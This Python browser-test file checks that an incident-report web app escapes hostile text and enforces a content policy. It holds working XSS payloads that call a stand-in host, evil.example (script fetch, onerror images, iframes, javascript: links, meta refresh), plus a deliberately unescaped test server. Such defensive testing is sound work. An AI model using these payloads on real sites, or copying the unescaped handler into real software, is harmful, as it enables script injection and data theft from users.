"""A report whose every word is hostile, read in a real browser: nothing runs, nothing pops up, nothing leaves."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.browser import Page, running_browser
from tests.builders import build_services, close_services, incident, queue_of, sqlite_url
from tests.orchestra import (
    ENABLED,
    ERRORS,
    RUNTIME,
    Orchestra,
    finds,
    orchestrated_incident,
    sends,
    write_two_sources,
)
from tests.web_client import running_server, sqlite_services
from worker import pipeline
from worker.domain.report import (
    Category,
    Check,
    CheckFailure,
    Citation,
    Confidence,
    Denial,
    Evidence,
    Factor,
    Gap,
    Refutation,
    Report,
    RootCause,
    RuledOut,
    Series,
    SubAgent,
    Suggestion,
    TimelineEntry,
    Verification,
)
from worker.domain.states import InvestigationStatus, ReportVerdict
from worker.services import Services
from worker.storage import investigations, reports
from worker.storage.migrate import migrate

pytestmark = pytest.mark.browser

ATTACKS = (
    "<script>document.documentElement.dataset.ran=1;alert(1);fetch('http://evil.example/ran')</script>",
    '"><img src=http://evil.example/x.png onerror=alert(2)><svg onload=alert(3)>',
    "</pre></title></style><iframe src=http://evil.example/frame></iframe><a href='javascript:alert(4)'>open</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/away'><base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css><form action=http://evil.example><button>go</button></form>",
    "javascript:alert(5)",
    "[click](javascript:alert(6)) ![x](http://evil.example/y.png) http://evil.example/plain",
)
TEXT = " ".join(ATTACKS)
CLICK_ALL = "for (const a of document.querySelectorAll('a[href^=\"#\"]')) a.click(); document.links.length"
LINKS = "[...document.querySelectorAll('[href],[src],[action]')].map(e => e.href || e.src || e.action)"


@pytest.fixture
def services(tmp_path: Path) -> Iterator[Services]:
    with sqlite_services(tmp_path) as found:
        yield found


def hostile(investigation_id: str, incident_id: str, *, created: object) -> Report:
    cited = (Citation(evidence_id="e1.1", quote=TEXT[:1000]), Citation(evidence_id=TEXT))
    points = (("2026-03-01T12:00:00+00:00", 1.0), ("2026-03-01T12:01:00+00:00", 9.0))
    return Report.model_validate({
        "verdict": ReportVerdict.CONFIRMED,
        "confidence": Confidence.HIGH,
        "summary": TEXT,
        "impact": TEXT,
        "partial": TEXT,
        "root_causes": (
            RootCause(
                entity=TEXT[:300], category=Category.OTHER, category_detail=TEXT[:300], statement=TEXT,
                causal_chain=(TEXT,), change_id=TEXT, evidence=cited,
            ),
        ),
        "contributing_factors": (Factor(statement=TEXT, evidence=cited),),
        "timeline": (TimelineEntry(at=created, text=TEXT, evidence_id=TEXT),),
        "ruled_out": (RuledOut(hypothesis=TEXT, reason=TEXT, evidence=cited),),
        "gaps": (Gap(wanted=TEXT, reason=TEXT),),
        "suggestions": (Suggestion(action=TEXT, command=TEXT, undo=TEXT),),
        "check_failures": (CheckFailure(claim=TEXT, problem=TEXT),),
        "verification": Verification(
            model=TEXT,
            checks=(Check(cause=1, entity=TEXT, outcome=Refutation.HOLDS, reason=TEXT, evidence=cited),),
            problem=TEXT,
        ),
        "denied": (Denial(tool=TEXT, command=TEXT, layer=TEXT, reason=TEXT),),
        "sub_agents": (
            SubAgent(
                agent_no=1, role=TEXT, model=TEXT, wave_no=1, status=TEXT, turns=1, purpose=TEXT, strength="strong",
                summary=TEXT,
            ),
        ),
        "notes": (TEXT,),
        "evidence": (
            Evidence(
                id="e1.1", tool=TEXT, arguments={TEXT: TEXT}, status=TEXT, excerpt=TEXT, artifact_id=TEXT,
                series=(Series(name=TEXT, unit=TEXT, points=points),),
            ),
        ),
        "investigation_id": investigation_id,
        "incident_id": incident_id,
        "title": TEXT[:500],
        "service": TEXT[:500],
        "severity": TEXT,
        "created_at": created,
        "models": {TEXT: TEXT},
        "prompt_versions": {TEXT: TEXT},
    })  # fmt: skip


def store_hostile(services: Services) -> str:
    """Publish the hostile report of a hostile incident; return the investigation's id."""
    event = incident(TEXT[:500], service=TEXT[:500], description=TEXT)
    taken = pipeline.accept(services, event, via="test")
    report = hostile(taken.investigation_id, taken.incident_id, created=event.started_at)
    with services.database.transaction() as session:
        reports.add(session, report)
        completed = InvestigationStatus.COMPLETED
        investigations.finish(session, taken.investigation_id, completed, verdict=report.verdict)
    return taken.investigation_id


def hosts(addresses: list[str]) -> set[str | None]:
    return {urlsplit(address).hostname for address in addresses if not address.startswith(("data:", "about:"))}


def assert_nothing_acted(page: Page, url: str) -> None:
    page.evaluate(CLICK_ALL)
    page.settle()
    assert page.dialogs == []
    assert page.evaluate("document.documentElement.dataset.ran") is None
    assert hosts(page.requests) == {"127.0.0.1"}
    assert hosts(page.evaluate(LINKS)) <= {"127.0.0.1"}
    assert page.evaluate("location.origin") == url
    assert page.evaluate("document.scripts.length + document.images.length + frames.length") == 0


def test_a_hostile_report_is_only_words(services: Services, tmp_path: Path) -> None:
    found = store_hostile(services)

    with running_server(services) as url, running_browser(tmp_path) as page:
        page.open(f"{url}/investigations/{found}")

        assert_nothing_acted(page, url)
        words = page.evaluate("document.body.innerText")
        assert all(attack in words for attack in ATTACKS)
        assert page.evaluate("getComputedStyle(document.querySelector('.verdict')).borderLeftWidth") == "6px"


def test_a_hostile_alert_is_only_words_on_the_other_pages(services: Services, tmp_path: Path) -> None:
    found = store_hostile(services)

    with running_server(services) as url, running_browser(tmp_path) as page:
        for path in ("/investigations", f"/investigations/{found}/progress"):
            page.open(url + path)
            assert_nothing_acted(page, url)


def test_the_policy_holds_where_escaping_would_not(services: Services, tmp_path: Path) -> None:
    """Put the attacks into the live page as markup: the second wall stands without the first."""
    found = store_hostile(services)

    with running_server(services) as url, running_browser(tmp_path) as page:
        page.open(f"{url}/investigations/{found}")
        page.evaluate(
            "document.body.insertAdjacentHTML('beforeend', '<img src=http://evil.example/x.png onerror=alert(2)>"
            '<iframe src=http://evil.example/frame></iframe><a id=bad href="javascript:alert(4)">x</a>\')'
        )
        page.evaluate("const s = document.createElement('script'); s.text = 'alert(1)'; document.body.append(s)")
        page.evaluate("document.getElementById('bad').click()")
        page.settle()

        assert page.dialogs == []
        assert len(page.refused) >= 4, page.refused


def test_cancel_works_by_a_button_without_any_script(services: Services, tmp_path: Path) -> None:
    taken = pipeline.accept(services, incident("checkout is slow"), via="test")

    with running_server(services) as url, running_browser(tmp_path) as page:
        page.open(f"{url}/investigations/{taken.investigation_id}")
        page.evaluate("document.querySelector('form button').click()")
        page.settle(1)

        assert page.evaluate("document.querySelector('.verdict .title').innerText") == "Cancelled"


def test_one_sub_agent_is_cancelled_by_its_own_button(tmp_path: Path) -> None:
    script = {"lead": [sends(ERRORS, RUNTIME)], ERRORS: [finds()], RUNTIME: [finds()]}
    url = sqlite_url(tmp_path)
    migrate(url)
    services = build_services(url, Orchestra(script), rca_recorded_root=write_two_sources(tmp_path), **ENABLED)
    taken = pipeline.accept(services, orchestrated_incident(), via="test")
    pipeline.take_turn(services, queue_of(services).take()[0].agent_id, 1)

    with running_server(services) as server, running_browser(tmp_path) as page:
        page.open(f"{server}/investigations/{taken.investigation_id}")
        page.evaluate("document.querySelector('[aria-label=\"Cancel agent 2\"]').click()")
        page.settle(1)
        told = page.evaluate("[...document.querySelectorAll('.tree .stands')].map(e => e.innerText)")
        width = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")

    close_services(services)
    assert told == ["sub-agents work", "waits for a worker", "no finding: it was cancelled"]
    assert width == 0


def test_a_running_investigation_turns_into_its_report_by_itself(services: Services, tmp_path: Path) -> None:
    taken = pipeline.accept(services, incident("checkout is slow"), via="test")
    report = hostile(taken.investigation_id, taken.incident_id, created="2026-03-01T12:30:00Z")

    with running_server(services) as url, running_browser(tmp_path) as page:
        page.open(f"{url}/investigations/{taken.investigation_id}")
        assert page.evaluate("document.querySelector('.verdict .title').innerText") == "Running"
        with services.database.transaction() as session:
            reports.add(session, report.model_copy(update={"summary": "The pool was cut."}))
            completed = InvestigationStatus.COMPLETED
            investigations.finish(session, taken.investigation_id, completed, verdict=report.verdict)
        page.settle(5)

        assert page.evaluate("document.querySelector('.summary').innerText") == "The pool was cut."


class Careless(BaseHTTPRequestHandler):
    """A page that shows the same words unescaped and without a policy."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(ATTACKS[0].encode() + ATTACKS[1].encode())

    def log_message(self, *_arguments: object) -> None:
        """Say nothing."""


@contextmanager
def careless_server() -> Iterator[str]:
    with HTTPServer(("127.0.0.1", 0), Careless) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            thread.join(timeout=10)


def test_the_browser_would_have_noticed(tmp_path: Path) -> None:
    with careless_server() as url, running_browser(tmp_path) as page:
        page.open(url)
        page.settle()

        assert page.dialogs
        assert page.evaluate("document.documentElement.dataset.ran") == "1"
        assert "evil.example" in hosts(page.requests)
